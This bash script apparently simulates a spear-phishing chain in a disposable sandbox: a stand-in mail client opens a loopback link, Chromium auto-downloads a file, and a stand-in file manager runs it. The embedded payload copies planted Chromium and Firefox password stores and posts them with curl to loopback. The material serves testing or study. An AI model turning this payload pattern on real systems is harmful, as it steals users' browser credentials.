#!/usr/bin/env bash
# Spear phish: a stand-in for a mail client opens a link through xdg-open; the real Chromium loads a page from
# loopback and downloads a file; a stand-in for a file manager runs it; it reads planted credential stores
# of a throw-away home and posts them to loopback. Usage: spear-phish.sh closed|open
#   closed  the link starts the browser
#   open    the browser already runs: the program that the link starts hands the address over and ends
# Needs: bash, perl (perl-base), curl, coreutils, chromium. No root. Runs in about 10 s.
. "$(dirname "${BASH_SOURCE[0]}")/lib/common.sh"
need perl curl chromium
variant=${1:-closed}
case $variant in closed | open) ;; *)
	echo "usage: spear-phish.sh closed|open" >&2
	exit 2
	;;
esac

home=$root/home/mika
mkdir -p "$root/far" "$root/pids" "$home/Downloads" "$home/.config/chromium/Default" "$home/.mozilla/firefox/x.default" "$root/profile/Default"
printf 'planted by a story' >"$home/.config/chromium/Default/Login Data"
printf '{"logins":[]}' >"$home/.mozilla/firefox/x.default/logins.json"
printf '{"download":{"default_directory":"%s","prompt_for_download":false},"safebrowsing":{"enabled":false}}' "$home/Downloads" >"$root/profile/Default/Preferences"
cat >"$root/far/notice.html" <<'HTML'
<!doctype html><meta charset="utf-8"><title>お知らせ</title><p>ご請求書をご確認ください。</p>
<a id="f" href="/statement" download="statement">請求書</a><script>document.getElementById("f").click()</script>
HTML
far_side

# what the visitor is made to run
cat >"$root/far/statement" <<PAYLOAD
#!/bin/sh
printf 'payload\t%s\tdownloaded file run\n' \$\$ >>$STEPS
sh -c 'printf "store\t%s\tbrowser password store read\n" \$\$ >>$STEPS; exec cp "$home/.config/chromium/Default/Login Data" "$shm/a"'
sh -c 'printf "logins\t%s\tanother browser password store read\n" \$\$ >>$STEPS; exec cp "$home/.mozilla/firefox/x.default/logins.json" "$shm/b"'
sh -c 'printf "post\t%s\tdata posted to loopback\n" \$\$ >>$STEPS; exec curl -s -m 5 --data-binary "@$shm/a" http://127.0.0.1:$web/in'
PAYLOAD

# stand-ins, named for what they stand for; the browser is the real one
# TMPDIR, since the browser leaves a folder for its socket there
export PROFILE=$root/profile PIDS=$root/pids ROLE=browser HOME=$home TMPDIR=$root
[ "$variant" = open ] && ROLE=stub

if [ "$variant" = open ]; then
	say "the browser is already open"
	"$here/stand-in/browser" about:blank >"$root/browser.log" 2>&1 &
	helpers+=("$!")
	echo "$!" >"$root/pids/browser"
	for ((n = 0; n < 100; n++)); do
		[ -L "$root/profile/SingletonLock" ] && break
		pause 0.1
	done
	[ -L "$root/profile/SingletonLock" ] || { cat "$root/browser.log" >&2; echo "chromium did not start" >&2; exit 1; }
	pause 2
fi
say "the mail client opens a link"
"$here/stand-in/thunderbird" "$STEPS" "http://127.0.0.1:$web/notice.html" &
mail=$!
until_file "$root/pids/link" 50
[ "$variant" = open ] || helpers+=("$(cat "$root/pids/link")")
until_file "$home/Downloads/statement" 200 || { cat "$root"/pids/*.log >&2; exit 1; }
say "the browser has downloaded the file"
pause 0.5
say "the file is run"
"$here/stand-in/file-manager" "$home/Downloads/statement" &
wait "$!"
say "planted stores were read and posted to loopback"
for p in "${helpers[@]}"; do kill "$p" 2>/dev/null || true; done
wait "$mail" || true
for ((n = 0; n < 30; n++)); do
	[ -L "$root/profile/SingletonLock" ] || break
	pause 0.1
done
grep -q '^post' "$STEPS"
